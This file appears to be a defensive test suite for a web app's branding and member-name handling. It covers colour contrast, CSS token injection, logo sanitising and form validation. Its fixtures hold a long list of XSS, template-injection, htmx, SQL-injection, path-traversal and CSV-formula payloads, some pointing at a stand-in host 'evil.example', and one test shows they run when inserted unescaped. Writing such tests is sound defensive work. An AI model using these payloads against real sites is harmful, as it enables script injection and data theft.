"""How a house looks can be read by everybody, and nothing a house, a member or a file says becomes style or script."""

import io
import itertools
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from datetime import timedelta
from typing import Any, Final

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from PIL import Image, PngImagePlugin
from playwright.sync_api import Browser, expect

from loyalty_saas import branding
from loyalty_saas.branding import (
    DARK_CARD,
    DARK_GROUND,
    LIGHT_GROUND,
    LOGO_EDGE,
    WHITE,
    Colour,
    LogoRefused,
    change_brand,
    colour_of,
    contrast,
    draw_logo,
    tokens,
)
from members.services.enrolment import NewMember, enrol
from tenants.access import Actor
from tenants.context import public_atomic
from tenants.models import Brand, Client
from tests.browsers import Watched, chromium, come_signed_in, watch
from tests.http import ClientBrowser
from tests.loyalty_saas.portals import at_portal
from tests.people import browser, person

__all__ = ["chromium", "watch"]

ENOUGH: Final = 4.5
COLOURS = st.integers(0, 0xFFFFFF).map("#{:06x}".format)
HARD: Final = ("#000000", "#ffffff", "#ffff00", "#0000ff", "#7f7f7f", "#767676", "#00ff00")


# ── colours ─────────────────────────────────────────────────────────────────────────────────────────────────────────


def shades(css: str) -> dict[str, Colour]:
    """The colours among the tokens of one mode, by name."""
    return {name: colour_of(value) for name, value in re.findall(r"--([a-z-]+):(#[0-9a-f]{6});", css)}


def unreadable(accent: str) -> list[str]:
    """What cannot be read in the look of a house with that colour."""
    light, _media, dark = tokens(Brand(accent=accent)).partition("@media")
    return [
        f"{accent}: {name} in {mode} {contrast(colour, ground):.2f}"
        for mode, found, grounds in (
            ("light", shades(light), (LIGHT_GROUND, WHITE)),
            ("dark", shades(dark), (DARK_GROUND, DARK_CARD)),
        )
        for name, colour, ground in [
            *(("accent", found["accent"], ground) for ground in (*grounds, found["accent-wash"])),
            *(("on-accent", found["on-accent"], found[ground]) for ground in ("accent", "accent-strong")),
        ]
        if contrast(colour, ground) < ENOUGH
    ]


@hypothesis_settings(max_examples=400, deadline=None)
@given(accent=COLOURS)
def test_any_colour_becomes_one_that_can_be_read(accent: str) -> None:
    assert unreadable(accent) == []


@pytest.mark.parametrize("accent", HARD)
def test_the_hardest_colours_can_be_read(accent: str) -> None:
    assert unreadable(accent) == []


def test_the_property_fails_where_colours_are_taken_as_they_come(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(branding, "readable", lambda colour, *, on: colour)
    with pytest.raises(AssertionError):
        test_any_colour_becomes_one_that_can_be_read()
    assert all(unreadable(accent) for accent in HARD[:2])


# ── the style sheet ─────────────────────────────────────────────────────────────────────────────────────────────────

HEX: Final = r"#[0-9a-f]{6}"
ACCENTS: Final = "".join(rf"--{name}:{HEX};" for name in ("accent", "accent-strong", "on-accent", "accent-wash"))
SHAPE: Final = r'(--typeface:[A-Za-z ,"-]+;)?(--corner:\d\.\d+rem;--corner-small:\d\.\d+rem;)?'
PLAIN_SHEET: Final = re.compile(rf":root\{{{SHAPE}\}}\n")
SHEET: Final = re.compile(
    rf":root\{{{SHAPE}{ACCENTS}\}}@media \(prefers-color-scheme:dark\)\{{:root\{{{ACCENTS}\}}\}}\n"
)


@pytest.mark.parametrize(("typeface", "corners"), itertools.product(Brand.Typeface, Brand.Corners))
def test_tokens_are_of_known_names_and_harmless_characters(typeface: str, corners: str) -> None:
    for accent in HARD:
        assert SHEET.fullmatch(tokens(Brand(accent=accent, typeface=typeface, corners=corners)))
    assert PLAIN_SHEET.fullmatch(tokens(Brand(typeface=typeface, corners=corners)))


@pytest.mark.parametrize(
    "wrong", [{"typeface": "x;}body{display:none}"}, {"corners": "9rem;}"}, {"accent": "#fff;}*{"}]
)
def test_a_row_that_should_not_be_becomes_no_style(wrong: dict[str, str]) -> None:
    with pytest.raises(ValueError, match=r"not a valid|invalid literal"):
        tokens(Brand(**wrong))


# ── the logo ────────────────────────────────────────────────────────────────────────────────────────────────────────

CANARY: Final = b"canary-of-the-upload"


def upload(data: bytes, name: str = "logo.png") -> SimpleUploadedFile:
    """A file as a form hands it over, which calls itself a PNG whatever it is."""
    return SimpleUploadedFile(name, data, "image/png")


def picture(kind: str, size: tuple[int, int] = (600, 300), mode: str = "RGB", **more: Any) -> bytes:
    """A picture whose left half is red and whose right half is blue, where the mode has colours."""
    drawn = Image.new("RGB", size, "red")
    drawn.paste("blue", (size[0] // 2, 0, *size))
    out = io.BytesIO()
    drawn.convert(mode).save(out, kind, **more)
    return out.getvalue()


def exif(orientation: int = 1) -> Image.Exif:
    """What a camera wrote, the canary among it."""
    held = Image.Exif()
    held[0x0112], held[0x010E] = orientation, CANARY.decode()
    return held


def noted() -> PngImagePlugin.PngInfo:
    """Text chunks with the canary."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", CANARY.decode())
    info.add_itxt("XML:com.adobe.xmp", CANARY.decode())
    return info


def chunk(kind: bytes, data: bytes) -> bytes:
    """One chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def claiming(width: int, height: int) -> bytes:
    """A PNG of a few bytes whose head speaks of many pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def zipped() -> bytes:
    """A ZIP with a picture in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as one:
        one.writestr("logo.png", picture("PNG"))
    return out.getvalue()


GOOD: Final = {
    "PNG with EXIF, text and a tail": lambda: picture("PNG", exif=exif(), pnginfo=noted()) + CANARY,
    "JPEG with EXIF, comment and a tail": lambda: picture("JPEG", exif=exif(), comment=CANARY) + CANARY,
    "WebP with EXIF, XMP and a tail": lambda: picture("WEBP", exif=exif(), xmp=CANARY) + CANARY,
    "PNG with a colour profile": lambda: picture("PNG", icc_profile=CANARY * 10),
    "PNG with a script after its end": lambda: picture("PNG") + b"<script>window.canary=1</script>" + CANARY,
    "PNG with a palette": lambda: picture("PNG", mode="P", pnginfo=noted()),
    "grey PNG": lambda: picture("PNG", mode="L", pnginfo=noted()),
    "black and white PNG": lambda: picture("PNG", mode="1", pnginfo=noted()),
    "CMYK JPEG": lambda: picture("JPEG", mode="CMYK", comment=CANARY),
    "one pixel": lambda: picture("PNG", size=(1, 1), pnginfo=noted()),
    "long and thin": lambda: picture("PNG", size=(4000, 2), pnginfo=noted()),
}
UNREADABLE, HEAVY, LARGE = "not a picture we can read", "larger than 5 MB", "more than 16 million pixels"
BAD: Final = {
    "SVG": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>', UNREADABLE),
    "SVG with a script": (lambda: b"<?xml version='1.0'?><svg><script>window.canary=1</script></svg>", UNREADABLE),
    "HTML": (lambda: b"<!doctype html><script>window.canary=1</script>", UNREADABLE),
    "GIF": (lambda: picture("GIF"), UNREADABLE),
    "BMP": (lambda: picture("BMP"), UNREADABLE),
    "TIFF": (lambda: picture("TIFF"), UNREADABLE),
    "ICO": (lambda: picture("ICO", size=(64, 64)), UNREADABLE),
    "PDF": (lambda: picture("PDF"), UNREADABLE),
    "ZIP": (zipped, UNREADABLE),
    "PostScript": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) run", UNREADABLE),
    "empty": (lambda: b"", UNREADABLE),
    "the head of a PNG alone": (lambda: picture("PNG")[:8], UNREADABLE),
    "truncated PNG": (lambda: picture("PNG")[:-40], UNREADABLE),
    "truncated JPEG": (lambda: picture("JPEG")[:500], UNREADABLE),
    "PNG that claims ten thousand million pixels": (lambda: claiming(100_000, 100_000), UNREADABLE),
    "PNG that claims 64 million pixels": (lambda: claiming(8_000, 8_000), LARGE),
    "PNG without a width": (lambda: claiming(0, 10), UNREADABLE),
    "PNG over 5 MB": (lambda: picture("PNG") + b"\0" * 5 * 1024 * 1024, HEAVY),
}


def chunks_of(png: bytes) -> list[bytes]:
    """The kinds of a PNG's chunks in order, up to its very last byte."""
    kinds, at = [], 8
    while at < len(png):
        (length,) = struct.unpack(">I", png[at : at + 4])
        kinds.append(png[at + 4 : at + 8])
        at += length + 12
    assert at == len(png)
    return kinds


@pytest.mark.parametrize("make", GOOD.values(), ids=GOOD.keys())
def test_a_picture_is_drawn_anew_and_nothing_else_of_its_file_stays(make: Callable[[], bytes]) -> None:
    sent = make()
    drawn = draw_logo(upload(sent))
    assert CANARY not in drawn
    assert set(chunks_of(drawn)) == {b"IHDR", b"IDAT", b"IEND"}
    assert chunks_of(drawn)[-1] == b"IEND"
    with Image.open(io.BytesIO(drawn), formats=("PNG",)) as shown:
        shown.load()
        assert (max(shown.size) <= LOGO_EDGE, shown.mode, dict(shown.getexif())) == (True, "RGBA", {})


def test_the_canary_is_in_the_uploads() -> None:
    without = {"one pixel", "long and thin"}
    assert [name for name, make in GOOD.items() if CANARY not in make() and name not in without] == [
        "PNG with a colour profile"
    ], "Pillow packs the profile; the chunk is what counts there."
    assert b"iCCP" in chunks_of(GOOD["PNG with a colour profile"]())


@pytest.mark.parametrize(("orientation", "size", "left"), [(1, (256, 128), "red"), (3, (256, 128), "blue"),
                                                          (6, (128, 256), None), (8, (128, 256), None)])  # fmt: skip
def test_a_photo_stands_as_its_camera_says(orientation: int, size: tuple[int, int], left: str | None) -> None:
    drawn = draw_logo(upload(picture("JPEG", exif=exif(orientation), quality=95)))
    with Image.open(io.BytesIO(drawn)) as shown:
        assert shown.size == size
        red, _green, blue, _alpha = shown.getpixel((5, 64))  # type: ignore[misc]
        if left:
            assert (red > blue) == (left == "red")
        else:
            assert (red > blue) == (orientation == 6), "Its left side is above now, or below."


@pytest.mark.parametrize(("make", "words"), BAD.values(), ids=BAD.keys())
def test_what_is_no_logo_is_refused_with_words(make: Callable[[], bytes], words: str) -> None:
    with pytest.raises(LogoRefused, match=words):
        draw_logo(upload(make()))


WHOLE: Final = [
    picture("PNG", (40, 30), exif=exif(6), pnginfo=noted()),
    picture("JPEG", (40, 30), exif=exif(6)),
    picture("WEBP", (40, 30), exif=exif(6)),
    picture("PNG", (40, 30), mode="P"),
]
HURT = st.lists(st.tuples(st.integers(0, 2**16), st.integers(0, 255)), min_size=1, max_size=6)


@pytest.mark.filterwarnings("ignore::UserWarning")
@hypothesis_settings(max_examples=600, deadline=None)
@given(whole=st.sampled_from(WHOLE), hurt=HURT, kept=st.floats(0.5, 1))
def test_a_damaged_picture_is_drawn_or_refused_but_never_a_fault(
    whole: bytes, hurt: list[tuple[int, int]], kept: float
) -> None:
    data = bytearray(whole[: int(len(whole) * kept)] if kept < 0.7 else whole)
    for place, value in hurt:
        data[place % len(data)] = value
    try:
        drawn = draw_logo(upload(bytes(data)))
    except LogoRefused as refused:
        assert str(refused)
    else:
        assert set(chunks_of(drawn)) == {b"IHDR", b"IDAT", b"IEND"}


SIDEWAYS: Final = (0x0112, 3, 1, b"\0\6\0\0")
ODD: Final = {
    "text where a ratio belongs": [SIDEWAYS, (0x011A, 2, 4, b"abc\0")],
    "a ratio where a number belongs": [SIDEWAYS, (0x0128, 5, 1, b"\0\0\0\x0e")],
    "an orientation there is not": [(0x0112, 4, 1, b"\xff\xff\xff\xff")],
}


@pytest.mark.parametrize("entries", ODD.values(), ids=ODD.keys())
def test_a_photo_whose_exif_is_odd_is_a_logo_all_the_same(entries: list[tuple[int, int, int, bytes]]) -> None:
    rows = b"".join(struct.pack(">HHI", tag, kind, count) + value for tag, kind, count, value in entries)
    held = b"Exif\0\0MM\0*\0\0\0\x08" + struct.pack(">H", len(entries)) + rows + bytes(4)
    assert draw_logo(upload(picture("JPEG", exif=held)))


# ── the form ────────────────────────────────────────────────────────────────────────────────────────────────────────

LOOK: Final = {"own_colour": "on", "accent": "#0f766e", "typeface": "serif", "corners": "square"}
WRONG_COLOURS: Final = (
    "red", "#12345", "#12345g", "#1234567", "#fff", "url(x)", "#fff;}body{display:none}", "#123456;", "0f766e", "#",
    "rgb(1,2,3)", "var(--x)", "#12345\u0661", "#\uff11\uff12\uff13456", "</style><script>", "#0f766e\n", "\n#0f766e",
    "#0f766e\r\n}", "#0f7 66e", "expression(alert(1))", "{{7*7}}",
)  # fmt: skip


@pytest.fixture
def house(shop: Client) -> Brand:
    """The look of the shop: teal, serif, square, with a logo."""
    return give_look(shop)


def give_look(client: Client) -> Brand:
    """A look of its own for a client, with a logo."""
    shape = {"typeface": "serif", "corners": "square"}
    with public_atomic():
        return change_brand(
            at=timezone.now() - timedelta(days=1), accent="#0f766e", client=client,
            logo=draw_logo(upload(picture("PNG"))), **shape,
        )  # fmt: skip


@pytest.fixture
def owner(shop: Client) -> ClientBrowser:
    """The portal, open before the owner."""
    return at_portal(shop)


def looks(brand: Brand) -> tuple[Any, ...]:
    """What stands in the database of a look."""
    now = Brand.objects.get(pk=brand.pk)
    return now.accent, now.typeface, now.corners, bytes(now.logo or b""), now.changed_at


@pytest.mark.parametrize("colour", WRONG_COLOURS, ids=ascii)
def test_a_colour_that_is_none_is_refused_at_its_field(house: Brand, owner: ClientBrowser, colour: str) -> None:
    before = looks(house)
    answer = owner.post("/settings/look/", {**LOOK, "accent": colour, "typeface": "inter"})
    body = answer.content.decode()
    assert (answer.status_code, 'id="id_accent_errors"' in body) == (422, True)
    assert looks(house) == before
    assert "<script>window" not in body
    assert "</style><script>" not in body


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("typeface", "Comic Sans"),
        ("typeface", 'x";}body{display:none}'),
        ("corners", "9rem"),
        ("corners", ""),
        ("accent", ""),
        ("logo", upload(b"<svg onload=alert(1)>")),
        ("logo", upload(picture("GIF"))),
        ("logo", upload(b"")),
        ("logo", upload(claiming(100_000, 100_000))),
    ],
    ids=["typeface", "typeface as style", "corners", "no corners", "no colour", "SVG", "GIF", "empty file", "bomb"],
)  # fmt: skip
def test_anything_else_wrong_is_refused_at_its_field(
    house: Brand, owner: ClientBrowser, field: str, value: Any
) -> None:
    before = looks(house)
    answer = owner.post("/settings/look/", {**LOOK, field: value})
    assert (answer.status_code, f'id="id_{field}_errors"' in answer.content.decode()) == (422, True)
    assert looks(house) == before


def test_the_preview_of_a_wrong_colour_shows_none_of_it(owner: ClientBrowser) -> None:
    for colour in WRONG_COLOURS[:-1]:
        answer = owner.get("/settings/look/", {**LOOK, "accent": colour}, headers={"HX-Request": "true"})
        assert answer.status_code == 200
        for mark in ("display:none", "<script", "url(x)", "expression("):
            assert mark not in answer.content.decode()


def test_a_logo_sent_through_the_form_is_drawn_anew(shop: Client, owner: ClientBrowser) -> None:
    sent = upload(GOOD["JPEG with EXIF, comment and a tail"](), "../../<script>.png")
    assert owner.post("/settings/look/", {**LOOK, "logo": sent}).status_code == 302
    held = bytes(Brand.objects.get(client=shop).logo or b"")
    assert (held[:8], CANARY in held) == (b"\x89PNG\r\n\x1a\n", False)


# ── whose style sheet and logo ──────────────────────────────────────────────────────────────────────────────────────


def addresses(brand: Brand) -> dict[str, str]:
    """Where a brand's style sheet and logo are, by content type."""
    place = f"/brand/{brand.pk}/{int(brand.changed_at.timestamp() * 1000)}"
    return {"text/css; charset=utf-8": f"{place}/tokens.css", "image/png": f"{place}/logo.png"}


def test_the_page_links_its_own_look_which_is_kept_for_good(shop: Client, house: Brand, owner: ClientBrowser) -> None:
    page = owner.get("/").content.decode()
    stranger = browser(shop)
    for kind, address in addresses(house).items():
        assert f'"{address}"' in page
        answer = stranger.get(address)
        assert (answer.status_code, answer["Content-Type"]) == (200, kind)
        assert answer["Cache-Control"] == "public, max-age=31536000, immutable"
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert "unsafe-inline" not in answer["Content-Security-Policy"]
        assert not answer.cookies


def test_a_look_is_on_its_own_host_alone(house: Brand, bravo: Client, provider: Any) -> None:
    others = give_look(bravo)
    for address in addresses(house).values():
        assert browser(bravo).get(address).status_code == 404
        assert browser(None).get(address).status_code == 404
        assert browser(None, person(Actor.PROVIDER, provider=provider)).get(address).status_code == 404
    for address in addresses(others).values():
        assert browser(bravo).get(address).status_code == 200
        assert str(house.pk) not in browser(bravo).get("/accounts/login/").content.decode()


# ── names ───────────────────────────────────────────────────────────────────────────────────────────────────────────

RUN: Final = "window.canary=1"
EVIL: Final = "//evil.example"
HOSTILE: Final = (
    f"<script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"--><script>{RUN}</script><!--", f"</script><script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script src={EVIL}/x.js></script>",
    f"<img src=x onerror={RUN}>", f'"><img src=x onerror={RUN}>', f"'><img src=x onerror={RUN}>",
    f"<img src={EVIL}/p.png>", f"<svg onload={RUN}>", f"<svg/onload={RUN}//", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<math><mtext><img src=x onerror={RUN}></math>",
    f"<body onload={RUN}>", f"<iframe src=javascript:parent.{RUN}>", f'<iframe srcdoc="<script>parent.{RUN}</script>">',
    f"<object data={EVIL}/o>", f"<embed src={EVIL}/e>", f"<link rel=stylesheet href={EVIL}/s.css>",
    f"<base href={EVIL}/>", f"<meta http-equiv=refresh content=0;url={EVIL}/>", f"<form action={EVIL}/><input autofocus>",
    f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>", f"<a href=javascript:{RUN}>click</a>", f"javascript:{RUN}", "javascript:alert(1)",
    f"data:text/html,<script>{RUN}</script>", f'" onmouseover="{RUN}', f"' autofocus onfocus='{RUN}", f"` onclick={RUN} `",
    "<style>*{display:none}</style>", "</style><style>body{display:none}", f"<style>@import '{EVIL}/i.css'</style>",
    f'<p style="background:url({EVIL}/b.png)">', "{{7*7}}", "{% debug %}", "{{ request.user.password }}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('window.canary=1')()}}",
    f"<div hx-get={EVIL} hx-trigger=load>", f'<div hx-on:htmx:load="{RUN}" hx-get=/ hx-trigger=load>',
    '<div hx-delete="/members/" hx-trigger="load">', f"<div data-hx-post={EVIL} data-hx-trigger=load>",
    "\u202egnirts siht daeR", "\u2066\u202e\u2067txt.exe\u2069", "A\u200bn\u200ba\u200b \u2060R\ufeffay", "\u200b\u200d",
    "W" * 100, "very long name " * 6, "Z\u0351\u036b" * 30, "O'Brien \"Bob\" & <Sons>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;", "\\u003cscript\\u003e", "%3Cscript%3E", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "=cmd|' /C calc'!A0", "'; DROP TABLE members_member; --", "../../../etc/passwd", "%(name)s %s %d {0} {name}",
)  # fmt: skip
OF_THE_HOUSE: Final = f"</title><svg onload={RUN}><img src=x onerror={RUN}>{{{{7*7}}}}\"'"


@pytest.fixture
def hostile_shop(shop: Client) -> Client:
    """A shop whose own name and all of whose members' names are meant to do harm."""
    with public_atomic():
        Client.objects.filter(pk=shop.pk).update(name=OF_THE_HOUSE)
    for number, name in enumerate(HOSTILE):
        enrol(new=NewMember({"card": f"X-{number}"}, name=name), region="DE", at=timezone.now())
    return shop


def listed(one: Watched) -> list[str]:
    """The names on the pages of the members list, as texts."""
    names: list[str] = []
    for number in range(1, 10):
        page = one.go(f"/members/?page={number}")
        is_harmless(one)
        names += page.locator("tbody tr td:first-child a .font-medium").all_text_contents()
        if len(names) >= len(HOSTILE):
            return names
    return names


def is_harmless(one: Watched) -> None:
    """No script of a name ran, nothing was asked of others, nobody got a console error, and the page stands as made."""
    one.page.wait_for_load_state("networkidle")
    assert one.page.evaluate("typeof window.canary") == "undefined"
    assert one.page.locator("[hx-get*=evil], [onload], [onerror], [onfocus], base, iframe, object, embed").count() == 0
    assert one.page.locator("main").is_visible()
    one.is_sound(axe=False)


def test_hostile_names_are_words_and_nothing_else(hostile_shop: Client, watch: Callable[..., Watched]) -> None:
    one = watch(hostile_shop.domains.get().host)
    dialogs: list[str] = []
    one.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    come_signed_in(one, client=hostile_shop, user=person(Actor.OWNER, client=hostile_shop))
    page = one.go("/")
    is_harmless(one)
    assert OF_THE_HOUSE in page.locator("body").text_content().replace("\xa0", " ")  # type: ignore[union-attr]
    assert OF_THE_HOUSE in page.title()

    assert sorted(listed(one)) == sorted(HOSTILE)
    page.locator("tbody a").first.click()
    page.wait_for_load_state()
    is_harmless(one)
    assert page.locator("h1").inner_text().strip() in {" ".join(name.split()) for name in HOSTILE}

    for asked, shown in (("<svg", "<svg/onload"), ("hx-trigger", "hx-trigger=load"), ("{{7", "{{7*7}}")):
        page.keyboard.press("Control+k")
        page.locator("#search-q").fill(asked)
        expect(page.locator("#search-found .found", has_text=shown).first).to_be_visible()
        is_harmless(one)
        page.keyboard.press("Escape")
    nobody = f'zz"><img src=x onerror={RUN}>'
    page.keyboard.press("Control+k")
    page.locator("#search-q").fill(nobody)
    expect(page.locator("#search-found")).to_contain_text(nobody)
    is_harmless(one)
    assert dialogs == []


def test_such_names_written_into_a_page_as_they_are_do_harm(chromium: Browser) -> None:
    context = chromium.new_context()
    asked: list[str] = []
    names = [name for name in HOSTILE if name.startswith((f"<script>{RUN}", "<img src=", "<svg onload", "<svg/onload"))]
    page = context.new_page()
    page.on("request", lambda request: asked.append(request.url))
    page.route("**/*", lambda route: route.abort())
    page.route("http://house.example/", lambda route: route.fulfill(body=f"<p>{name}</p>", content_type="text/html"))
    harmed = []
    for name in names:  # noqa: B007
        page.goto("http://house.example/")
        harmed.append(page.evaluate("typeof window.canary") != "undefined")
    context.close()
    assert sum(harmed) == len(names) - 1, "All but the picture of another host."
    assert any("evil.example" in url for url in asked)
